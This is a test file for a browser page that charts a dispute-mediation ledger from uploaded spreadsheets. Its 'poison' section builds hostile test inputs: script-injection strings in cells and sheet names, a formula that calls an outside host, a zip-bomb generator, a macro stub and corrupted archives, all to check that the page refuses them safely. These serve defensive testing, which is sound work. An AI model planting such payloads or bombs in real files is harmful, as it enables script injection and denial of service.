"""The analysis of a ledger in the browser: charts that equal the sums; harm that does nothing; drafts on one page."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import sys
import zipfile
from collections import Counter
from collections.abc import Callable
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from browsing import OpenPage, Visits
from openpyxl.workbook import Workbook
from playwright.sync_api import expect

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from ledgers import ANALYSIS, LEDGER, charted, everything, month_name, on_disk, record, table, take, warned

from ledger_file import MONTHS, TAB, Row, blank, filled, made_up, part, repacked, saved, tabs

pytestmark = pytest.mark.browser

SHEET = "xl/worksheets/sheet2.xml"
"""Where openpyxl keeps the tab 联动化解."""
ALARM = "window.alarms = 0; window.alert = () => { window.alarms += 1 }; 0"
WATCH = """tingsuoWorkbook.read.slice = 0; window.turns = 0; document.querySelector("[data-files]").addEventListener("change", function turn() {
  if (/读了|没有可以算/.test(document.querySelector("[data-state]").textContent)) return;
  window.turns += 1;
  setTimeout(turn, 0);
}, true)"""
"""Counts the turns that the page gets from the choice of a file until it is read, when it is given one wherever it can be."""
ALIVE = 15
"""Turns; a file read in one go leaves three or four."""


# ---- the chart numbers equal the sums ----


def test_charts_equal_the_sums(open_page: OpenPage) -> None:
    """Type, town and month, alone and crossed: what Python counts in the same rows."""
    rows = made_up()
    tab = everything(take(open_page(ANALYSIS), saved(filled(rows))))
    assert warned(tab) == ""
    assert charted(tab, "type") == Counter(row["纠纷类型"] for row in rows)
    assert charted(tab, "town") == Counter(row["镇街"] for row in rows)
    assert charted(tab, "month") == {month_name(month): n for month, n in Counter(row["受理月份"] for row in rows).items()}
    for name, one, other in (("type-month", "纠纷类型", "受理月份"), ("town-type", "镇街", "纠纷类型")):
        head, *body, foot = table(tab, name)
        counts = Counter((row[one], month_name(row[other]) if other == "受理月份" else row[other]) for row in rows)
        shown = {(line[0], column): int(n) for line in body for column, n in zip(head[1:-1], line[1:-1], strict=True) if n != "0"}
        assert shown == counts
        assert [int(line[-1]) for line in body] == [sum(n for (key, _), n in counts.items() if key == line[0]) for line in body]
        assert int(foot[-1]) == len(rows)


def test_bars_are_as_long_as_their_numbers(open_page: OpenPage) -> None:
    """The SVG bars are drawn to scale: the longest is a hundred wide, the others in proportion."""
    tab = everything(take(open_page(ANALYSIS), saved(filled(made_up()))))
    for name in ("type", "town", "month"):
        wide = [float(rect.get_attribute("width") or 0) for rect in tab.locator(f'[data-chart="{name}"] rect').all()]
        counts = list(charted(tab, name).values())
        assert wide == pytest.approx([max(1, n * 100 / max(counts)) for n in counts], abs=0.06)


def test_period_and_town_narrow_everything(open_page: OpenPage) -> None:
    """Three months and one town: charts, sums and the rate are of those only."""
    rows = made_up()
    tab = take(open_page(ANALYSIS), saved(filled(rows)))
    tab.get_by_label("镇街", exact=True).select_option("罗城街道")
    mine = [row for row in rows if row["受理月份"] in MONTHS[-3:] and row["镇街"] == "罗城街道"]
    assert charted(tab, "type") == Counter(row["纠纷类型"] for row in mine)
    assert tab.locator('[data-fill="count"]').inner_text() == f"{len(mine)}件"
    taken = [row for row in mine if row["结果"] != "不受理转出"]
    agreed = [row for row in mine if row["结果"] == "达成协议"]
    assert tab.locator('[data-fill="rate-sum"]').inner_text() == f"{len(agreed)} ÷ {len(taken)} ＝ {round(len(agreed) * 1000 / len(taken)) / 10:g}%"


def test_rising_types_are_those_that_rose(open_page: OpenPage) -> None:
    """Three or more, and three tenths more than in the same number of months before."""
    rows = made_up()
    tab = take(open_page(ANALYSIS), saved(filled(rows)))
    now = Counter(row["纠纷类型"] for row in rows if row["受理月份"] in MONTHS[-3:])
    before = Counter(row["纠纷类型"] for row in rows if row["受理月份"] in MONTHS[-6:-3])
    risen = {name for name in now if now[name] >= 3 and now[name] * 10 >= before[name] * 13}
    body = table(tab, "rising")[1:]
    assert {line[0] for line in body if "变多" in line[4]} == risen
    assert {line[0]: (int(line[1]), int(line[2])) for line in body} == {name: (before[name], now[name]) for name in now | before}
    assert "房屋租赁" in risen


def test_without_earlier_months_nothing_is_said_to_rise(open_page: OpenPage) -> None:
    """The first months of a ledger have nothing before them: the page says so instead of calling everything new."""
    tab = everything(take(open_page(ANALYSIS), saved(filled(made_up()))))
    expect(tab.locator('[data-show="unknown"]')).to_be_visible()
    assert not any("变多" in line[4] for line in table(tab, "rising"))


def test_hot_spots_come_back_within_three_months(open_page: OpenPage) -> None:
    """Same town and type, three or more in any three months in a row, the most of them."""
    rows = made_up()
    tab = everything(take(open_page(ANALYSIS), saved(filled(rows))))
    expected = {}
    for town, kind in {(row["镇街"], row["纠纷类型"]) for row in rows}:
        counts = [sum(row["受理月份"] == month and (row["镇街"], row["纠纷类型"]) == (town, kind) for row in rows) for month in MONTHS]
        most = max(sum(counts[max(0, n - 2) : n + 1]) for n in range(len(counts)))
        if most >= 3:
            expected[town, kind] = f"{most}件"
    assert {(line[0], line[1]): line[2] for line in table(tab, "spots")[1:]} == expected


def test_several_files_are_added_up(open_page: OpenPage) -> None:
    """Two towns' files together, in Excel and in CSV; the same file twice counts once."""
    rows = made_up(40)
    out = io.StringIO()
    names = [column.name for column in tabs()[TAB].columns]
    writer = csv.DictWriter(out, names)
    writer.writeheader()
    writer.writerows(rows[25:])
    tab = open_page(ANALYSIS)
    one = {"name": "甲.xlsx", "mimeType": "", "buffer": saved(filled(rows[:25]))}
    two = {"name": "乙.csv", "mimeType": "", "buffer": out.getvalue().encode("gb18030")}
    tab.locator("[data-files]").set_input_files([one, two, one])
    expect(tab.locator("[data-state]")).to_contain_text("读了40件")
    everything(tab)
    assert charted(tab, "type") == Counter(row["纠纷类型"] for row in rows)


@pytest.mark.parametrize("plain", [False, True], ids=["the browser's inflate", "our own inflate"])
def test_old_browsers_read_the_same(open_page: OpenPage, plain: bool) -> None:
    """Where the browser can't unpack, our own inflate does; both read the file that the build makes, filled or blank."""
    tab = open_page(ANALYSIS)
    tab.evaluate("plain => { tingsuoWorkbook.read.plain = plain }", plain)
    rows = made_up()
    everything(take(tab, saved(filled(rows))))
    assert charted(tab, "type") == Counter(row["纠纷类型"] for row in rows)
    take(tab, blank())
    expect(tab.locator("[data-results]")).to_be_hidden()
    assert warned(tab) == ""


# ---- poison ----


def extra_columns(book: Workbook) -> None:
    """Somebody added names and telephones, and took a column away."""
    sheet = book[TAB]
    sheet.insert_cols(1, 2)
    sheet["A1"], sheet["B1"] = "当事人姓名", "联系电话"
    for n in range(2, 12):
        sheet.cell(n, 1).value, sheet.cell(n, 2).value = "真名真姓", "13800138000"


def formulas(book: Workbook) -> None:
    """Formulas instead of values, with nothing kept of their result, and one that would fetch something."""
    sheet = book[TAB]
    for n in range(2, 6):
        sheet.cell(n, 4).value = '=WEBSERVICE("https://example.org/"&A2)'
    sheet.cell(2, 11).value = "=1+1"


def scripts(book: Workbook) -> None:
    """Script wherever text may stand: headings, cells, the name of a sheet."""
    sheet = book[TAB]
    for n in range(2, 6):
        sheet.cell(n, 1).value = "<script>alert(1)</script>"
        sheet.cell(n, 3).value = "<img src=x onerror=alert(1)>"
    sheet.cell(1, 25).value = "<svg onload=alert(1)>"
    book.create_sheet("x'><img src=x onerror=alert(1)>"[:31].replace("/", "")).append(["<b>一</b>"])


def merged(book: Workbook) -> None:
    """Towns merged over several rows."""
    book[TAB].merge_cells("C2:C6")


def wrong_types(book: Workbook) -> None:
    """A month that is none, one that hasn't come, a town that isn't in the list, an outcome that is a number."""
    sheet = book[TAB]
    sheet["B2"] = "去年秋天"
    sheet["B3"] = date(2062, 1, 1)
    sheet["C4"] = "某村某组张某家"
    sheet["D5"] = 42
    sheet["N6"] = 3.14


def wrong_columns(book: Workbook) -> None:
    """Headings nobody knows."""
    for cell in book[TAB][1]:
        cell.value = f"甲{cell.column}"


def some_columns(book: Workbook) -> None:
    """The town is missing."""
    book[TAB].delete_cols(3)


def two_rows_of_heading(book: Workbook) -> None:
    """A title above the headings, merged across."""
    book[TAB].insert_rows(1)
    book[TAB]["A1"] = "某镇2026年台账"
    book[TAB].merge_cells("A1:S1")


POISONED: dict[str, tuple[Callable[[Workbook], None], int, str]] = {
    "personal columns": (extra_columns, 30, "有2列不是台账的列"),
    "formulas": (formulas, 26, "格是公式，没有运行"),
    "script": (scripts, 26, "镇街没有写或不在名单里"),
    "merged cells": (merged, 26, "处合并的单元格"),
    "wrong types": (wrong_types, 26, "月份没有写或看不懂"),
    "wrong columns": (wrong_columns, 0, "没有认得的列名"),
    "a missing column": (some_columns, 0, "少了这几列：镇街"),
    "a title above": (two_rows_of_heading, 30, ""),
}


@pytest.mark.parametrize("name", POISONED)
def test_poisoned_sheet_gets_a_sentence(open_page: OpenPage, name: str) -> None:
    """Each kind of harm: a sentence, what is sound is counted, nothing runs, nothing of what isn't chosen from a list is shown."""
    poison, counted, sentence = POISONED[name]
    book = filled(made_up(30))
    poison(book)
    tab = open_page(ANALYSIS)
    visits = Visits()
    visits.watch(tab.context)
    tab.evaluate(ALARM)
    take(tab, saved(book))
    assert sentence in warned(tab)
    if counted:
        everything(tab)
        assert tab.locator('[data-fill="count"]').inner_text() == f"{counted}件"
    else:
        expect(tab.locator("[data-results]")).to_be_hidden()
    asked = [url for url in visits.requests if not url.endswith("/icon.svg")]
    assert (asked, visits.problems, tab.evaluate("window.alarms")) == ([], [], 0)
    whole = tab.locator("body").inner_text()
    assert not any(text in whole for text in ("真名真姓", "13800138000", "张某家", "alert(1)", "example.org"))
    assert tab.locator("article img, article script[src^=x]").count() == 0


def big_bomb(megabytes: int = 300) -> bytes:
    """A sheet of so many MB of blanks in a thousandth of that."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saved(filled(made_up(3))))) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != SHEET:
                new.writestr(name, old.read(name))
        with new.open(SHEET, "w") as sheet:
            sheet.write(b"<worksheet><sheetData>")
            for _ in range(megabytes):
                sheet.write(b" " * 1_048_576)
    return out.getvalue()


def row_bomb() -> bytes:
    """One row that never ends."""
    return repacked(saved(filled(made_up(3))), {SHEET: b"<worksheet><sheetData><row r='1'>" + b"<c><v>" * 2_000_000})


def same_names() -> bytes:
    """Two sheets called 联动化解, which Excel itself wouldn't write."""
    data = saved(filled(made_up(5)))
    book = part(data, "xl/workbook.xml")
    return repacked(data, {"xl/workbook.xml": book.replace('name="技能交流"', f'name="{TAB}"').encode()})


def encrypted_zip() -> bytes:
    """A zip whose parts have the flag of a password."""
    data = bytearray(saved(filled(made_up(3))))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def with_macros() -> bytes:
    """A workbook that brings a program."""
    return repacked(saved(filled(made_up(3))), {"xl/vbaProject.bin": b"Sub Auto_Open()"})


def cut_short() -> bytes:
    """Half a download."""
    data = saved(filled(made_up(300)))
    return data[: len(data) // 2]


def spoilt() -> bytes:
    """A flipped piece inside the sheet."""
    data = bytearray(saved(filled(made_up(300))))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        at = archive.getinfo(SHEET).header_offset + 200
    data[at : at + 200] = bytes(200)
    return bytes(data)


REFUSED: dict[str, tuple[Callable[[], bytes], str]] = {
    "a zip bomb": (big_bomb, "大得不正常"),
    "a row without end": (row_bomb, "长得不正常"),
    "two sheets of a name": (same_names, "有两张表都叫“联动化解”"),
    "a zip with a password": (encrypted_zip, "加了密码"),
    "an Excel file with a password": (lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4096), "加了密码，或者是旧的 .xls"),
    "macros": (with_macros, "带宏"),
    "half a file": (cut_short, "读不全"),
    "a spoilt file": (spoilt, "读不全"),
    "another zip": (lambda: repacked(saved(filled([])), {"xl/workbook.xml": None}), "不是 Excel 的 .xlsx"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, "不是台账文件"),
    "nothing": (lambda: b"", "文件是空的"),
    "a letter": (lambda: "尊敬的领导：\n你好。\n".encode() * 200, "没有台账的表"),
    "a line without end": (lambda: b"," * 5_000_000, "列多得不正常"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_file_that_can_not_be_read_gets_a_sentence(open_page: OpenPage, name: str) -> None:
    """Not one of them is read, freezes the page or leaves an error; afterwards a sound file is read as ever."""
    make, sentence = REFUSED[name]
    tab = open_page(ANALYSIS)
    visits = Visits()
    visits.watch(tab.context)
    take(tab, make(), "坏的.csv" if name in ("a letter", "a line without end") else "坏的.xlsx")
    assert sentence in warned(tab)
    expect(tab.locator("[data-results]")).to_be_hidden()
    take(tab, saved(filled(made_up(30))))
    expect(tab.locator("[data-results]")).to_be_visible()
    assert visits.problems == []


def test_bomb_is_dropped_without_the_browsers_inflate(open_page: OpenPage) -> None:
    """Our own inflate stops at the limit, too, and lets the page breathe."""
    tab = open_page(ANALYSIS)
    tab.evaluate("tingsuoWorkbook.read.plain = true")
    tab.evaluate(WATCH)
    take(tab, big_bomb(80))
    assert "大得不正常" in warned(tab)
    assert tab.evaluate("window.turns") > ALIVE, tab.evaluate("window.turns")


@pytest.fixture(scope="module")
def fifty_thousand() -> bytes:
    """50,000 rows, every one with its number."""
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet(TAB)
    names = ["编号", "受理月份", "镇街", "纠纷类型", "结果", "涉及人数"]
    sheet.append(names)
    rows = made_up(500)
    for n in range(50_000):
        row: Row = rows[n % 500] | {"编号": f"2026-{n:05}"}
        sheet.append([row[name] for name in names])
    return saved(book)


def test_fifty_thousand_rows_freeze_nothing(open_page: OpenPage, fifty_thousand: bytes) -> None:
    """The first 20,000 are read in slices while the page stays alive; that the rest isn't counted stands on the page and in the report."""
    tab = open_page(ANALYSIS)
    tab.evaluate(WATCH)
    take(tab, fifty_thousand)
    assert tab.evaluate("window.turns") > ALIVE, tab.evaluate("window.turns")
    assert "超过20000行，只读了前面20000行" in warned(tab)
    everything(tab)
    expected = Counter(row["纠纷类型"] for row in made_up(500))
    assert charted(tab, "type") == {name: n * 40 for name, n in expected.items()}
    assert "不能当全数用" in tab.locator('[data-fill="report-source"]').inner_text()


def test_a_second_choice_ends_the_first(open_page: OpenPage, fifty_thousand: bytes) -> None:
    """Choosing again while a large file is being read shows the second file's numbers, never the first's."""
    tab = open_page(ANALYSIS)
    picker = tab.locator("[data-files]")
    picker.set_input_files(on_disk(fifty_thousand, "大.xlsx"))
    picker.set_input_files(on_disk(saved(filled(made_up(30))), "小.xlsx"))
    expect(tab.locator("[data-state]")).to_contain_text("读了30件")
    tab.wait_for_timeout(1500)
    expect(tab.locator("[data-state]")).to_contain_text("读了30件")


def test_analysis_takes_the_ledger_of_the_device(open_page: OpenPage) -> None:
    """Rows of this device are counted without a file."""
    tab = open_page(LEDGER)
    record(tab)
    record(tab, "房屋租赁", "正在调")
    tab.get_by_role("link", name="分析研判").first.click()
    tab.get_by_role("button", name="用这台设备上的台账（2行）").click()
    assert charted(tab, "type") == {"相邻关系": 1, "房屋租赁": 1}
    assert tab.locator('[data-fill="rate-sum"]').inner_text() == "1 ÷ 2 ＝ 50%"


# ---- print ----


@pytest.mark.parametrize(("button", "key", "words"), [("打印专项报告", "report", "专项报告"), ("打印司法建议底稿", "advice", "司法建议底稿")])
def test_drafts_print_on_one_page(open_page: OpenPage, tmp_path: Path, button: str, key: str, words: str) -> None:
    """The draft alone, on one A4 page, with the numbers of the ledger and with what was typed into its blanks."""
    tab = open_page(ANALYSIS)
    tab.evaluate("window.print = () => {}")
    take(tab, saved(filled(made_up(1500))))
    sheet = tab.locator(f'[data-sheet="{key}"]')
    sheet.get_by_role("textbox").nth(3).fill("租约没有写明押金几时退。")
    tab.get_by_role("button", name=button).click()
    path = tmp_path / "draft.pdf"
    tab.pdf(path=path, prefer_css_page_size=True)
    if not shutil.which("pdftotext"):
        pytest.skip("没有 pdftotext：apt-get install poppler-utils")
    info = subprocess.run(["pdfinfo", path], check=True, capture_output=True, text=True).stdout
    assert re.search(r"Pages: +1\n", info)
    assert re.search(r"Page size: +59\d(\.\d+)? x 84\d", info)
    text = re.sub(r"\s", "", subprocess.run(["pdftotext", "-raw", path, "-"], check=True, capture_output=True, text=True).stdout)
    assert words in text
    assert "租约没有写明押金几时退" in text
    assert "选台账文件" not in text
    count = sum(row["受理月份"] in MONTHS[-3:] for row in made_up(1500))
    if key == "report":
        assert f"{count}件" in text


def test_drafts_warn_of_personal_numbers(open_page: OpenPage) -> None:
    """A telephone typed into a draft is said to have no place there."""
    tab = take(open_page(ANALYSIS), saved(filled(made_up(30))))
    tab.get_by_label("为什么会多").fill("打13800138000问过")
    expect(tab.locator("[data-personal]")).to_be_visible()
